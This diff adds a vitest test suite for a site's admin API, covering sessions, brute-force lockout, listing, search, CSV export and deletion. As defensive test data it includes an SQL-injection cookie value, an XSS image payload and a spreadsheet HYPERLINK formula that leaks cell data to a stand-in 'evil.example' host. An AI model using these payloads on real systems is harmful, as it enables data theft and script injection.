@@ -1,0 +1,567 @@
+// The admin API's test suite, run unchanged against every target of admin-targets.ts: real
+// Requests through the real routing, on PGlite and on a PostgreSQL server (and over HTTP).
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { ADMIN_NOTICES, type Notice } from '../../src/messages.ts';
+import { CSV_FILE_NAMES, type ContactRow, type Page, type SignupRow, type Stats } from '../../src/islands/admin/contract.ts';
+import { parseCsv } from '../../server/csv.ts';
+import { SESSION_COOKIE } from '../../server/admin/sessions.ts';
+import { LOCKOUT_SECONDS, MAX_FAILURES } from '../../server/admin/throttle.ts';
+import { disableLocalDemo, enableLocalDemo } from '../../server/admin/config.ts';
+import { expectSecurityHeaders, freshIp, tag, type SendInit } from './form-suite.ts';
+import { TEST_ADMIN_KEY, type AdminTarget } from './admin-targets.ts';
+
+const EVIL = 'https://evil.example';
+
+/** Every endpoint that needs a session, with the method it answers. */
+const GUARDED: [string, string][] = [
+  ['GET', '/api/admin/stats'],
+  ['GET', '/api/admin/contacts'],
+  ['GET', '/api/admin/signups'],
+  ['GET', '/api/admin/contacts.csv'],
+  ['GET', '/api/admin/signups.csv'],
+  ['DELETE', '/api/admin/contacts/1'],
+  ['DELETE', '/api/admin/signups/1'],
+];
+
+interface NewContact {
+  name?: string;
+  email?: string;
+  subject?: string | null;
+  message?: string;
+  source_page?: string;
+  submitted_at?: string;
+}
+interface NewSignup {
+  email?: string;
+  signup_type?: string;
+  source_page?: string;
+  submitted_at?: string;
+}
+
+async function expectProblem(res: Response, status: number, notice?: Notice): Promise<void> {
+  const body = (await res.json()) as { error?: Notice };
+  expect(res.status, JSON.stringify(body)).toBe(status);
+  expectSecurityHeaders(res);
+  expect(typeof body.error?.title).toBe('string');
+  expect(typeof body.error?.text).toBe('string');
+  if (notice) expect(body.error).toEqual(notice);
+}
+
+export function adminSuite(start: () => Promise<AdminTarget>): void {
+  let t: AdminTarget;
+  let cookie: string;
+
+  beforeAll(async () => {
+    t = await start();
+  }, 120_000);
+
+  afterAll(async () => {
+    await t?.finish();
+  }, 120_000);
+
+  // ── helpers ────────────────────────────────────────────────────────────────────────────────
+
+  const send = (method: string, path: string, init: SendInit & { cookie?: string; origin?: string | null } = {}) => {
+    const headers: Record<string, string> = { ...init.headers };
+    if (init.cookie) headers.Cookie = init.cookie;
+    const origin = init.origin === undefined ? (method === 'GET' ? null : t.origin) : init.origin;
+    if (origin) headers.Origin = origin;
+    return t.send(path, { ...init, method, headers });
+  };
+
+  const get = (path: string, init: SendInit & { cookie?: string } = {}) => send('GET', path, { cookie: cookie, ...init });
+
+  const postKey = (key: unknown, init: SendInit & { origin?: string | null } = {}) =>
+    send('POST', '/api/admin/session', {
+      ...init,
+      headers: { 'Content-Type': 'application/json', ...init.headers },
+      body: JSON.stringify({ key }),
+    });
+
+  /** Logs in and returns the Cookie header value of the new session. */
+  async function login(ip = freshIp()): Promise<string> {
+    const res = await postKey(TEST_ADMIN_KEY, { ip });
+    expect(res.status).toBe(200);
+    const setCookie = res.headers.get('set-cookie') ?? '';
+    return setCookie.split(';')[0]!;
+  }
+
+  async function addContact(row: NewContact = {}): Promise<string> {
+    const { rows } = await t.db.query<{ id: string }>(
+      `INSERT INTO contact_submissions (name, email, subject, message, source_page, submitted_at)
+       VALUES ($1, $2, $3, $4, $5, coalesce($6::timestamptz, now())) RETURNING id::text AS id`,
+      [
+        row.name ?? 'Ada Weaver',
+        row.email ?? `writer-${tag()}@example.com`,
+        row.subject === undefined ? 'A question about linen' : row.subject,
+        row.message ?? 'How should I wash a linen shirt?',
+        row.source_page ?? '/contact',
+        row.submitted_at ?? null,
+      ],
+    );
+    return rows[0]!.id;
+  }
+
+  async function addSignup(row: NewSignup = {}): Promise<string> {
+    const { rows } = await t.db.query<{ id: string }>(
+      `INSERT INTO email_signups (email, signup_type, source_page, submitted_at)
+       VALUES ($1, $2, $3, coalesce($4::timestamptz, now())) RETURNING id::text AS id`,
+      [row.email ?? `reader-${tag()}@example.com`, row.signup_type ?? 'Updates', row.source_page ?? '/', row.submitted_at ?? null],
+    );
+    return rows[0]!.id;
+  }
+
+  async function list<T>(kind: 'contacts' | 'signups', params: Record<string, string> = {}): Promise<Page<T>> {
+    const res = await get(`/api/admin/${kind}?${new URLSearchParams(params)}`);
+    expect(res.status).toBe(200);
+    expectSecurityHeaders(res);
+    return (await res.json()) as Page<T>;
+  }
+
+  async function sessionCount(): Promise<number> {
+    const { rows } = await t.db.query<{ n: number }>('SELECT count(*)::integer AS n FROM admin_sessions');
+    return rows[0]!.n;
+  }
+
+  // ── authentication ─────────────────────────────────────────────────────────────────────────
+
+  describe('authentication', () => {
+    it('logs in with the key: 200 {role: "admin"} and a __Host- cookie, HttpOnly, Secure, SameSite=Strict, Path=/', async () => {
+      const before = await sessionCount();
+      const res = await postKey(TEST_ADMIN_KEY);
+      expect(res.status).toBe(200);
+      expectSecurityHeaders(res);
+      expect(await res.json()).toEqual({ role: 'admin' });
+      const setCookie = res.headers.get('set-cookie')!;
+      expect(setCookie).toMatch(new RegExp(`^${SESSION_COOKIE}=[A-Za-z0-9_-]{43};`));
+      expect(SESSION_COOKIE.startsWith('__Host-')).toBe(true);
+      const attrs = setCookie.split(';').slice(1).map((a) => a.trim().toLowerCase());
+      expect(attrs).toEqual(expect.arrayContaining(['path=/', 'httponly', 'secure', 'samesite=strict']));
+      expect(attrs.some((a) => a.startsWith('domain='))).toBe(false);
+      cookie = setCookie.split(';')[0]!;
+      // Stored hashed: the table never holds the token itself.
+      expect(await sessionCount()).toBe(before + 1);
+      const token = cookie.split('=')[1]!;
+      const { rows } = await t.db.query<{ n: number }>('SELECT count(*)::integer AS n FROM admin_sessions WHERE token_hash = $1', [token]);
+      expect(rows[0]!.n).toBe(0);
+    });
+
+    it('GET /api/admin/session: {role: "admin"} with the session, 401 without (no demo key outside demo mode)', async () => {
+      const res = await get('/api/admin/session');
+      expect(res.status).toBe(200);
+      expectSecurityHeaders(res);
+      expect(await res.json()).toEqual({ role: 'admin' });
+
+      const anon = await get('/api/admin/session', { cookie: '' });
+      expect(anon.status).toBe(401);
+      expectSecurityHeaders(anon);
+      expect(await anon.json()).toEqual({ error: ADMIN_NOTICES.sessionRequired });
+    });
+
+    it('refuses a wrong key with 401 "Invalid Admin Key" and no cookie', async () => {
+      for (const key of ['wrong', TEST_ADMIN_KEY.toUpperCase(), TEST_ADMIN_KEY + ' ', '']) {
+        const res = await postKey(key);
+        expect(res.headers.get('set-cookie')).toBeNull();
+        await expectProblem(res, 401, ADMIN_NOTICES.invalidKey);
+      }
+    });
+
+    it('refuses a body that is not {key: string} (400) and a type that is not JSON or a form (415)', async () => {
+      await expectProblem(await postKey(42), 400);
+      await expectProblem(await send('POST', '/api/admin/session', { headers: { 'Content-Type': 'application/json' }, body: '{' }), 400);
+      await expectProblem(await send('POST', '/api/admin/session', { headers: { 'Content-Type': 'text/plain' }, body: TEST_ADMIN_KEY }), 415);
+    });
+
+    it.each(GUARDED)('%s %s without a cookie: 401 and no data', async (method, path) => {
+      await expectProblem(await send(method, path), 401, ADMIN_NOTICES.sessionRequired);
+    });
+
+    it.each(GUARDED)('%s %s with a forged or malformed cookie: 401 and no data', async (method, path) => {
+      for (const forged of [
+        `${SESSION_COOKIE}=${'A'.repeat(43)}`,
+        `${SESSION_COOKIE}=${Buffer.alloc(32, 7).toString('base64url')}`,
+        `${SESSION_COOKIE}=' OR '1'='1`,
+        `rt_admin=${cookie.split('=')[1]}`,
+      ]) {
+        await expectProblem(await send(method, path, { cookie: forged }), 401);
+      }
+    });
+
+    it('ends a session after 30 idle minutes, and after 12 hours whatever its activity', async () => {
+      const idle = await login();
+      await t.db.query("UPDATE admin_sessions SET last_seen_at = now() - interval '29 minutes'");
+      // 29 minutes idle is still alive, and using it restarts the idle time.
+      expect((await get('/api/admin/stats', { cookie: idle })).status).toBe(200);
+      expect((await get('/api/admin/stats', { cookie })).status).toBe(200);
+
+      await t.db.query("UPDATE admin_sessions SET last_seen_at = now() - interval '31 minutes'");
+      for (const [method, path] of [['GET', '/api/admin/session'], ...GUARDED]) {
+        await expectProblem(await send(method!, path!, { cookie: idle }), 401);
+      }
+
+      const old = await login();
+      await t.db.query("UPDATE admin_sessions SET created_at = now() - interval '12 hours 1 minute'");
+      for (const [method, path] of [['GET', '/api/admin/session'], ...GUARDED]) {
+        await expectProblem(await send(method!, path!, { cookie: old }), 401);
+      }
+      cookie = await login();
+    });
+
+    it('logs out: DELETE ends the session server-side and clears the cookie', async () => {
+      const session = await login();
+      const before = await sessionCount();
+      const res = await send('DELETE', '/api/admin/session', { cookie: session });
+      expect(res.status).toBe(204);
+      expectSecurityHeaders(res);
+      expect(res.headers.get('set-cookie')).toMatch(new RegExp(`^${SESSION_COOKIE}=; Path=/; Max-Age=0;`));
+      expect(await sessionCount()).toBe(before - 1);
+      // The browser may still send the old cookie: it opens nothing.
+      for (const [method, path] of [['GET', '/api/admin/session'], ...GUARDED]) {
+        await expectProblem(await send(method!, path!, { cookie: session }), 401);
+      }
+      // The other session is untouched.
+      expect((await get('/api/admin/stats')).status).toBe(200);
+    });
+
+    it('refuses a log-in, log-out or deletion from another origin (403)', async () => {
+      const res = await postKey(TEST_ADMIN_KEY, { origin: EVIL });
+      expect(res.headers.get('set-cookie')).toBeNull();
+      await expectProblem(res, 403, ADMIN_NOTICES.forbidden);
+
+      await expectProblem(await send('DELETE', '/api/admin/session', { cookie, origin: EVIL }), 403);
+      expect((await get('/api/admin/session')).status).toBe(200);
+
+      const id = await addContact();
+      await expectProblem(await send('DELETE', `/api/admin/contacts/${id}`, { cookie, origin: EVIL }), 403);
+      const cross = await send('DELETE', `/api/admin/contacts/${id}`, {
+        cookie,
+        origin: null,
+        headers: { 'Sec-Fetch-Site': 'cross-site' },
+      });
+      await expectProblem(cross, 403);
+      const { rows } = await t.db.query('SELECT 1 FROM contact_submissions WHERE id = $1', [id]);
+      expect(rows).toHaveLength(1);
+    });
+
+    it('answers 405 with Allow to other methods', async () => {
+      const res = await send('PUT', '/api/admin/session', { cookie });
+      await expectProblem(res, 405);
+      expect(res.headers.get('allow')).toBe('GET, POST, DELETE');
+      const del = await send('POST', '/api/admin/stats', { cookie });
+      await expectProblem(del, 405);
+      expect(del.headers.get('allow')).toBe('GET');
+    });
+  });
+
+  // ── brute force ────────────────────────────────────────────────────────────────────────────
+
+  describe('brute force', () => {
+    it(`locks a client out after ${MAX_FAILURES} wrong keys in 15 minutes: 429 with Retry-After, even for the right key`, async () => {
+      const ip = freshIp();
+      for (let i = 0; i < MAX_FAILURES; i++) await expectProblem(await postKey(`guess-${i}`, { ip }), 401, ADMIN_NOTICES.invalidKey);
+      for (const key of ['guess-again', TEST_ADMIN_KEY]) {
+        const res = await postKey(key, { ip });
+        expect(res.headers.get('set-cookie')).toBeNull();
+        const retryAfter = Number(res.headers.get('retry-after'));
+        expect(retryAfter).toBeGreaterThan(LOCKOUT_SECONDS - 120);
+        expect(retryAfter).toBeLessThanOrEqual(LOCKOUT_SECONDS);
+        const body = (await res.json()) as { error: Notice };
+        expect(res.status).toBe(429);
+        expect(body.error.title).toBe('Too Many Attempts');
+        expect(body.error.text).toMatch(/^Too many wrong keys\. Please try again in 1[45] minutes\.$/);
+      }
+      // Another client is not affected.
+      expect((await postKey(TEST_ADMIN_KEY)).status).toBe(200);
+    });
+
+    it('is bounded: once the failures are 15 minutes old the client may try again', async () => {
+      const ip = freshIp();
+      for (let i = 0; i < MAX_FAILURES; i++) expect((await postKey(`guess-${i}`, { ip })).status).toBe(401);
+      expect((await postKey(TEST_ADMIN_KEY, { ip })).status).toBe(429);
+      // Time passes (the windows age); refused attempts did not extend the lockout.
+      await t.db.query(
+        "UPDATE rate_limit_hits SET window_start = window_start - interval '16 minutes' WHERE bucket = 'admin-login'",
+      );
+      expect((await postKey(TEST_ADMIN_KEY, { ip })).status).toBe(200);
+    });
+
+    it('a right key clears the count of earlier wrong ones', async () => {
+      const ip = freshIp();
+      for (let i = 0; i < MAX_FAILURES - 1; i++) expect((await postKey(`guess-${i}`, { ip })).status).toBe(401);
+      expect((await postKey(TEST_ADMIN_KEY, { ip })).status).toBe(200);
+      for (let i = 0; i < MAX_FAILURES; i++) expect((await postKey(`guess-${i}`, { ip })).status).toBe(401);
+      expect((await postKey('guess', { ip })).status).toBe(429);
+    });
+
+    it(`lets exactly ${MAX_FAILURES} of 20 concurrent guesses through`, async () => {
+      const ip = freshIp();
+      const statuses = (await Promise.all(Array.from({ length: 20 }, (_, i) => postKey(`guess-${i}`, { ip })))).map((r) => r.status);
+      expect(statuses.filter((s) => s === 401)).toHaveLength(MAX_FAILURES);
+      expect(statuses.filter((s) => s === 429)).toHaveLength(20 - MAX_FAILURES);
+    });
+  });
+
+  // ── data ───────────────────────────────────────────────────────────────────────────────────
+
+  describe('stats', () => {
+    it('counts known data: contacts, sign-ups, each type, and sign-ups of the last 7 × 24 hours', async () => {
+      await t.db.query('DELETE FROM contact_submissions');
+      await t.db.query('DELETE FROM email_signups');
+      for (let i = 0; i < 3; i++) await addContact();
+      const days = (n: number) => new Date(Date.now() - n * 86_400_000).toISOString();
+      await addSignup({ signup_type: 'Newsletter' });
+      await addSignup({ signup_type: 'Newsletter', submitted_at: days(6.9) });
+      await addSignup({ signup_type: 'Newsletter', submitted_at: days(7.1) });
+      await addSignup({ signup_type: 'Updates', submitted_at: days(1) });
+      await addSignup({ signup_type: 'Updates', submitted_at: days(30) });
+      await addSignup({ signup_type: 'Movement', submitted_at: days(400) });
+      const res = await get('/api/admin/stats');
+      expect(res.status).toBe(200);
+      expectSecurityHeaders(res);
+      expect((await res.json()) as Stats).toEqual({
+        totalContacts: 3,
+        emailSignups: 6,
+        newsletter: 3,
+        updates: 2,
+        movement: 1,
+        thisWeek: 3,
+      });
+    });
+  });
+
+  describe('lists', () => {
+    it('lists newest first with every field, as text', async () => {
+      const older = await addContact({ name: 'Older', submitted_at: '2025-01-01T10:00:00.000001Z', subject: null });
+      const newer = await addContact({ name: '<img src=x onerror=alert(1)>', submitted_at: '2030-01-01T10:00:00Z' });
+      const page = await list<ContactRow>('contacts', { limit: '200' });
+      const ids = page.rows.map((r) => r.id);
+      expect(ids.indexOf(newer)).toBeLessThan(ids.indexOf(older));
+      const first = page.rows[0]!;
+      expect(first).toEqual({
+        id: newer,
+        name: '<img src=x onerror=alert(1)>',
+        email: expect.stringMatching(/@example\.com$/),
+        subject: 'A question about linen',
+        message: 'How should I wash a linen shirt?',
+        source_page: '/contact',
+        submitted_at: '2030-01-01T10:00:00.000000Z',
+      });
+      expect(page.rows.find((r) => r.id === older)).toMatchObject({ subject: null, submitted_at: '2025-01-01T10:00:00.000001Z' });
+      for (let i = 1; i < page.rows.length; i++) {
+        expect(page.rows[i - 1]!.submitted_at >= page.rows[i]!.submitted_at).toBe(true);
+      }
+    });
+
+    it('pages by keyset: every row exactly once, ties broken by id, in order', async () => {
+      const mark = tag();
+      const same = '2029-06-01T12:00:00.123456Z';
+      const made: string[] = [];
+      for (let i = 0; i < 23; i++) {
+        made.push(await addSignup({ source_page: `/paging-${mark}`, submitted_at: i % 3 === 0 ? same : `2029-06-0${1 + (i % 5)}T08:00:00Z` }));
+      }
+      const seen: SignupRow[] = [];
+      let cursor: string | null = null;
+      let pages = 0;
+      do {
+        const page: Page<SignupRow> = await list<SignupRow>('signups', { q: `paging-${mark}`, limit: '5', ...(cursor ? { cursor } : {}) });
+        expect(page.rows.length).toBeLessThanOrEqual(5);
+        seen.push(...page.rows);
+        cursor = page.nextCursor;
+        pages++;
+      } while (cursor);
+      expect(pages).toBe(5);
+      expect(seen.map((r) => r.id).sort()).toEqual([...made].sort());
+      const key = (r: SignupRow) => [r.submitted_at, BigInt(r.id)] as const;
+      for (let i = 1; i < seen.length; i++) {
+        const [a, ai] = key(seen[i - 1]!);
+        const [b, bi] = key(seen[i]!);
+        expect(a > b || (a === b && ai > bi)).toBe(true);
+      }
+    });
+
+    it('refuses malformed parameters with 400', async () => {
+      for (const query of ['limit=0', 'limit=201', 'limit=abc', 'cursor=nope', `cursor=${Buffer.from('x|1').toString('base64url')}`, `q=${'a'.repeat(255)}`, 'q=%00']) {
+        await expectProblem(await get(`/api/admin/contacts?${query}`), 400, ADMIN_NOTICES.badRequest);
+      }
+    });
+  });
+
+  describe('search', () => {
+    it('matches contacts on name, email or subject only, case-insensitively, as a substring', async () => {
+      const m = tag();
+      const byName = await addContact({ name: `Ada Q${m}X Weaver` });
+      const byEmail = await addContact({ email: `qq${m}zz@Example.com` });
+      const bySubject = await addContact({ subject: `About ${m.toUpperCase()} linen` });
+      await addContact({ message: `my code is ${m}` });
+      await addContact({ source_page: `/contact-${m}` });
+      for (const q of [m, m.toUpperCase(), `  ${m}  `, `q${m}x`]) {
+        const ids = (await list<ContactRow>('contacts', { q })).rows.map((r) => r.id);
+        const expected = q.trim().toLowerCase() === `q${m}x` ? [byName] : [bySubject, byEmail, byName];
+        expect(ids).toEqual(expected);
+      }
+    });
+
+    it('matches sign-ups on email, signup_type or source_page only', async () => {
+      const m = tag();
+      const byEmail = await addSignup({ email: `Reader.${m}@example.com`, signup_type: 'Movement' });
+      const byPage = await addSignup({ source_page: `/articles/${m}-linen`, signup_type: 'Updates' });
+      expect((await list<SignupRow>('signups', { q: m.toUpperCase() })).rows.map((r) => r.id)).toEqual([byPage, byEmail]);
+      // signup_type: every Movement row, and only those.
+      const movement = (await list<SignupRow>('signups', { q: 'mOvEm', limit: '200' })).rows;
+      expect(movement.length).toBeGreaterThan(0);
+      expect(movement.every((r) => r.signup_type === 'Movement')).toBe(true);
+      expect(movement.map((r) => r.id)).toContain(byEmail);
+    });
+
+    it('takes % _ and \\ literally', async () => {
+      const m = tag();
+      const pct = await addContact({ name: `100% ${m}` });
+      await addContact({ name: `1000 ${m}` });
+      const under = await addContact({ name: `a_b ${m}` });
+      await addContact({ name: `axb ${m}` });
+      const slash = await addContact({ name: `back\\slash ${m}` });
+      expect((await list<ContactRow>('contacts', { q: `0% ${m}` })).rows.map((r) => r.id)).toEqual([pct]);
+      expect((await list<ContactRow>('contacts', { q: `a_b ${m}` })).rows.map((r) => r.id)).toEqual([under]);
+      expect((await list<ContactRow>('contacts', { q: `k\\s` })).rows.map((r) => r.id)).toEqual([slash]);
+      expect((await list<ContactRow>('contacts', { q: `no-such-${m}` })).rows).toEqual([]);
+    });
+  });
+
+  describe('CSV export', () => {
+    it('round-trips a message with a comma, a quote and a newline, with a BOM, CRLF rows and the spec file name', async () => {
+      const m = tag();
+      const message = `Hello, "weaver"\nsecond line\r\nthird, and "more"`;
+      const name = `Zoë Ångström 日本 ${m}`;
+      const id = await addContact({ name, message, subject: null });
+      const res = await get(`/api/admin/contacts.csv?q=${encodeURIComponent(m)}`);
+      expect(res.status).toBe(200);
+      expectSecurityHeaders(res);
+      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${CSV_FILE_NAMES.contacts}"`);
+      const bytes = new Uint8Array(await res.arrayBuffer());
+      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+      const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
+      expect(text.endsWith('\r\n')).toBe(true);
+      expect(text).toContain('"Hello, ""weaver""\nsecond line\r\nthird, and ""more"""');
+      const records = parseCsv(text);
+      expect(records[0]).toEqual(['id', 'name', 'email', 'subject', 'message', 'source_page', 'submitted_at']);
+      expect(records).toHaveLength(2);
+      expect(records[1]).toEqual([id, name, expect.stringMatching(/@example\.com$/), '', message, '/contact', expect.stringMatching(/Z$/)]);
+    });
+
+    it('neutralises formulas: =HYPERLINK(...), + - @, tab and CR starts are prefixed with an apostrophe', async () => {
+      const m = tag();
+      const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
+      await addContact({ name: `${m} safe`, subject: hyperlink, message: '+1+2' });
+      await addContact({ name: `${m} two`, subject: '@SUM(A1:A9)', message: '-3-4' });
+      await addContact({ name: `${m} three`, subject: '\t=1', message: '\r=2' });
+      const text = await (await get(`/api/admin/contacts.csv?q=${m}`)).text();
+      const rows = parseCsv(text).slice(1);
+      const cells = rows.flatMap((r) => [r[3], r[4]]);
+      expect(cells.sort()).toEqual([`'${hyperlink}`, "'+1+2", "'-3-4", "'@SUM(A1:A9)", "'\t=1", "'\r=2"].sort());
+      expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
+      expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
+    });
+
+    it('exports sign-ups (honouring the search) as email-signups.csv; an empty result is the header alone', async () => {
+      const m = tag();
+      const ids = [await addSignup({ email: `one-${m}@example.com` }), await addSignup({ email: `two-${m}@example.com`, signup_type: 'Newsletter' })];
+      const res = await get(`/api/admin/signups.csv?q=${m}`);
+      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${CSV_FILE_NAMES.signups}"`);
+      const records = parseCsv(await res.text());
+      expect(records[0]).toEqual(['id', 'email', 'signup_type', 'source_page', 'submitted_at']);
+      expect(records.slice(1).map((r) => r[0])).toEqual([...ids].reverse());
+      const empty = await (await get(`/api/admin/signups.csv?q=nothing-${m}`)).text();
+      expect(parseCsv(empty)).toEqual([['id', 'email', 'signup_type', 'source_page', 'submitted_at']]);
+    });
+
+    it('streams a large export in batches: every row once, in order', async () => {
+      const m = tag();
+      await t.db.query(
+        `INSERT INTO email_signups (email, signup_type, source_page, submitted_at)
+         SELECT 'bulk-' || g || '-${m}@example.com', 'Updates', '/', now() - g * interval '1 second' FROM generate_series(1, 4500) g`,
+      );
+      const records = parseCsv(await (await get(`/api/admin/signups.csv?q=-${m}@`)).text()).slice(1);
+      expect(records).toHaveLength(4500);
+      expect(records[0]![1]).toBe(`bulk-1-${m}@example.com`);
+      expect(records[4499]![1]).toBe(`bulk-4500-${m}@example.com`);
+      expect(new Set(records.map((r) => r[0])).size).toBe(4500);
+    });
+  });
+
+  describe('erasure', () => {
+    it('DELETE removes the row (204), then 404; bad ids are 404', async () => {
+      const contact = await addContact();
+      const signup = await addSignup();
+      for (const [kind, id] of [['contacts', contact], ['signups', signup]] as const) {
+        const table = kind === 'contacts' ? 'contact_submissions' : 'email_signups';
+        const res = await send('DELETE', `/api/admin/${kind}/${id}`, { cookie });
+        expect(res.status).toBe(204);
+        expectSecurityHeaders(res);
+        expect((await t.db.query(`SELECT 1 FROM ${table} WHERE id = $1`, [id])).rows).toHaveLength(0);
+        await expectProblem(await send('DELETE', `/api/admin/${kind}/${id}`, { cookie }), 404, ADMIN_NOTICES.notFound);
+        expect((await list<{ id: string }>(kind, { limit: '200' })).rows.map((r) => r.id)).not.toContain(id);
+      }
+      for (const bad of ['abc', '0', '-1', '1.5', '99999999999999999999', '9223372036854775808']) {
+        await expectProblem(await send('DELETE', `/api/admin/contacts/${bad}`, { cookie }), 404);
+      }
+    });
+  });
+
+  // ── configuration (in-process targets: the test controls the environment) ──────────────────
+
+  describe('configuration', () => {
+    it('fails closed without ADMIN_KEY, or with one under 16 characters: 503 "Admin is not configured"', async (ctx) => {
+      if (!t.inProcess) return ctx.skip();
+      const saved = process.env.ADMIN_KEY;
+      try {
+        for (const value of [undefined, 'short-key']) {
+          if (value === undefined) delete process.env.ADMIN_KEY;
+          else process.env.ADMIN_KEY = value;
+          for (const [method, path] of [['GET', '/api/admin/session'], ['POST', '/api/admin/session'], ...GUARDED]) {
+            const res = await send(method!, path!, {
+              cookie,
+              headers: { 'Content-Type': 'application/json' },
+              body: method === 'POST' ? JSON.stringify({ key: value ?? '' }) : undefined,
+            });
+            await expectProblem(res, 503, ADMIN_NOTICES.notConfigured);
+          }
+        }
+      } finally {
+        process.env.ADMIN_KEY = saved;
+      }
+      expect((await get('/api/admin/stats')).status).toBe(200);
+    });
+
+    it('ends every session when the key changes', async (ctx) => {
+      if (!t.inProcess) return ctx.skip();
+      const saved = process.env.ADMIN_KEY;
+      try {
+        process.env.ADMIN_KEY = `${saved}-rotated`;
+        await expectProblem(await get('/api/admin/stats'), 401);
+      } finally {
+        process.env.ADMIN_KEY = saved;
+      }
+      expect((await get('/api/admin/stats')).status).toBe(200);
+    });
+
+    it('shows the key on the gate only in local demo mode, and only while it is the key in force', async (ctx) => {
+      if (!t.inProcess) return ctx.skip();
+      try {
+        enableLocalDemo(TEST_ADMIN_KEY);
+        expect(await (await get('/api/admin/session', { cookie: '' })).json()).toEqual({
+          error: ADMIN_NOTICES.sessionRequired,
+          demoKey: TEST_ADMIN_KEY,
+        });
+        // A signed-in answer never carries it.
+        expect(await (await get('/api/admin/session')).json()).toEqual({ role: 'admin' });
+        process.env.ADMIN_KEY = `${TEST_ADMIN_KEY}-other`;
+        expect(await (await get('/api/admin/session', { cookie: '' })).json()).toEqual({ error: ADMIN_NOTICES.sessionRequired });
+      } finally {
+        disableLocalDemo();
+        process.env.ADMIN_KEY = TEST_ADMIN_KEY;
+      }
+      expect(await (await get('/api/admin/session', { cookie: '' })).json()).toEqual({ error: ADMIN_NOTICES.sessionRequired });
+    });
+  });
+}
